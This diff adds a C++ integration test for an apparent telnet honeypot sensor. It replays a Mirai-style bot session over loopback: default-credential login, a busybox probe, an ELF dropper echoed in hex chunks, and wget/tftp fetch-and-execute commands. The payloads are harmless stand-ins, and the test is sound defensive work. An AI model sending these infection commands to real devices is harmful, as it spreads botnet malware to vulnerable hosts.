@@ -1,0 +1,197 @@
+// `mitsu run` as a honeypot, end to end: a bot's sessions over TCP to the sensor, payloads from
+// a local HTTP server and a real tftpd-hpa, and the events and files in the store afterwards.
+
+#include <arpa/inet.h>
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+#include <netinet/in.h>
+#include <openssl/evp.h>
+#include <poll.h>
+#include <sys/socket.h>
+#include <unistd.h>
+
+#include <csignal>
+#include <fstream>
+#include <nlohmann/json.hpp>
+#include <sstream>
+#include <thread>
+
+#include "core/hex.h"
+#include "testing/local_http_server.h"
+#include "testing/subprocess.h"
+#include "testing/temp_dir.h"
+
+namespace mitsu {
+namespace {
+
+using namespace std::chrono_literals;
+
+int free_port(int type) {
+  int fd = ::socket(AF_INET, type | SOCK_CLOEXEC, 0);
+  sockaddr_in a{};
+  a.sin_family = AF_INET;
+  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof(a));
+  socklen_t size = sizeof(a);
+  ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &size);
+  ::close(fd);
+  return ntohs(a.sin_port);
+}
+
+std::string sha256_of(std::string_view data) {
+  unsigned char out[32];
+  unsigned size = 0;
+  EVP_Digest(data.data(), data.size(), out, &size, EVP_sha256(), nullptr);
+  return to_hex(out, size);
+}
+
+class Connection {
+ public:
+  explicit Connection(int port) {
+    for (int i = 0; i < 200; ++i) {  // mitsu run may still be starting
+      fd_ = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+      sockaddr_in a{};
+      a.sin_family = AF_INET;
+      a.sin_port = htons(static_cast<std::uint16_t>(port));
+      a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+      if (::connect(fd_, reinterpret_cast<sockaddr*>(&a), sizeof(a)) == 0) {
+        return;
+      }
+      ::close(fd_);
+      fd_ = -1;
+      std::this_thread::sleep_for(25ms);
+    }
+  }
+  ~Connection() {
+    if (fd_ >= 0) {
+      ::close(fd_);
+    }
+  }
+  bool ok() const { return fd_ >= 0; }
+  void send(std::string_view s) { (void)::send(fd_, s.data(), s.size(), MSG_NOSIGNAL); }
+  std::string until(std::string_view marker, std::chrono::milliseconds limit = 5s) {
+    auto end = std::chrono::steady_clock::now() + limit;
+    while (got_.find(marker) == std::string::npos && std::chrono::steady_clock::now() < end) {
+      pollfd p{fd_, POLLIN, 0};
+      if (::poll(&p, 1, 20) > 0) {
+        char b[4096];
+        ssize_t n = ::read(fd_, b, sizeof(b));
+        if (n <= 0) {
+          break;
+        }
+        got_.append(b, static_cast<std::size_t>(n));
+      }
+    }
+    return got_;
+  }
+
+ private:
+  int fd_ = -1;
+  std::string got_;
+};
+
+TEST(SensorIntegration, BotSessionsEndWithEventsAndFilesInTheStore) {
+  testing::TempDir dir("sensor-integration");
+  int telnet_port = free_port(SOCK_STREAM);
+  int tftp_port = free_port(SOCK_DGRAM);
+
+  // The attacker's payload hosts: HTTP and a real tftpd-hpa, both on loopback.
+  std::string script = "#!/bin/sh\necho second stage\n";
+  testing::LocalHttpServer http({{"/bins.sh", {200, script, ""}}});
+  std::filesystem::create_directories(dir.path() / "tftp");
+  std::string tftp_payload = std::string(
+                                 "\x7f"
+                                 "ELF\x01\x02\x01",
+                                 7) +
+                             std::string(3000, 'M');
+  std::ofstream(dir.path() / "tftp" / "mips", std::ios::binary) << tftp_payload;
+  testing::ChildProcess tftpd({"/usr/sbin/in.tftpd", "--foreground", "--address",
+                               fmt::format("127.0.0.1:{}", tftp_port), "--secure",
+                               (dir.path() / "tftp").string()});
+
+  std::string config = (dir.path() / "mitsu.toml").string();
+  std::ofstream(config) << fmt::format(
+      "[sensor]\nid = \"it-sensor\"\nidle_timeout_s = 30\n"
+      "[[sensor.listeners]]\npersona = \"home-router\"\nport = {}\n"
+      "[download]\nallow = [\"127.0.0.1/32\"]\ntimeout_s = 10\n",
+      telnet_port);
+  std::string data = (dir.path() / "data").string();
+  testing::ChildProcess run({MITSU_EXE, "--config", config, "--data-dir", data, "run"});
+
+  std::string dropper = std::string(
+                            "\x7f"
+                            "ELF\x01\x02\x01",
+                            7) +
+                        std::string(100, '\x42');
+  {
+    Connection c(telnet_port);
+    ASSERT_TRUE(c.ok());
+    c.until("login: ");
+    c.send("admin\r\nadmin\r\n");
+    c.until("# ");
+    c.send("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\ncd /tmp\r\n");
+    EXPECT_NE(c.until("applet not found").find("ECCHI: applet not found"), std::string::npos);
+    for (std::size_t at = 0; at < dropper.size(); at += 40) {
+      std::string chunk;
+      for (std::size_t i = at; i < std::min(dropper.size(), at + 40); ++i) {
+        chunk += fmt::format("\\x{:02x}", static_cast<unsigned char>(dropper[i]));
+      }
+      c.send(fmt::format("echo -ne '{}' {} .d\r\n", chunk, at == 0 ? ">" : ">>"));
+    }
+    c.send(fmt::format("wget http://127.0.0.1:{}/bins.sh; chmod 777 bins.sh; sh bins.sh\r\n",
+                       http.port()));
+    c.send(fmt::format("tftp -g -r mips 127.0.0.1 {}\r\n", tftp_port));
+    c.send("chmod 777 .d; ./.d\r\n");
+    c.until("./.d\r\n");
+    std::this_thread::sleep_for(1s);  // downloads finish on the downloader's thread
+    c.send("exit\r\n");
+    c.until("never", 1s);
+  }
+  run.send_signal(SIGTERM);
+  testing::ProcessResult stopped = run.wait();
+  ASSERT_EQ(stopped.exit_code, 0) << stopped.err;
+  EXPECT_NE(stopped.err.find(fmt::format("home-router (router Netlinq NR-300N, mips) telnet on "
+                                         "127.0.0.1:{}",
+                                         telnet_port)),
+            std::string::npos)
+      << stopped.err;
+  tftpd.send_signal(SIGTERM);
+  (void)tftpd.wait();
+
+  auto events = testing::run_process({MITSU_EXE, "--data-dir", data, "events", "--json"});
+  ASSERT_EQ(events.exit_code, 0) << events.err;
+  std::map<std::string, std::vector<nlohmann::json>> by_kind;
+  std::istringstream lines(events.out);
+  for (std::string line; std::getline(lines, line);) {
+    auto e = nlohmann::json::parse(line);
+    by_kind[e["event"]["action"]].push_back(e);
+  }
+  EXPECT_EQ(by_kind["sensor.start"].size(), 1u);
+  EXPECT_EQ(by_kind["session.open"].size(), 1u);
+  EXPECT_EQ(by_kind["session.close"].size(), 1u);
+  ASSERT_EQ(by_kind["login.attempt"].size(), 1u);
+  EXPECT_EQ(by_kind["login.attempt"][0]["event"]["outcome"], "success");
+  EXPECT_EQ(by_kind["login.attempt"][0]["observer"]["name"], "it-sensor") << events.out;
+  EXPECT_GE(by_kind["command"].size(), 10u);
+  std::set<std::string> downloaded;
+  for (const auto& e : by_kind["file.download"]) {
+    EXPECT_EQ(e["event"]["outcome"], "success") << e.dump();
+    downloaded.insert(e["file"]["hash"]["sha256"].get<std::string>());
+  }
+  EXPECT_TRUE(downloaded.contains(sha256_of(script))) << events.out;
+  EXPECT_TRUE(downloaded.contains(sha256_of(tftp_payload))) << events.out;
+  std::set<std::string> uploaded;
+  for (const auto& e : by_kind["file.upload"]) {
+    uploaded.insert(e["file"]["hash"]["sha256"].get<std::string>());
+  }
+  EXPECT_TRUE(uploaded.contains(sha256_of(dropper))) << events.out;
+  // Each file is in the artifact store under its SHA-256, with the very bytes.
+  for (const std::string& sha : {sha256_of(script), sha256_of(tftp_payload), sha256_of(dropper)}) {
+    auto path =
+        std::filesystem::path(data) / "artifacts" / sha.substr(0, 2) / sha.substr(2, 2) / sha;
+    EXPECT_TRUE(std::filesystem::exists(path)) << path;
+  }
+}
+
+}  // namespace
+}  // namespace mitsu
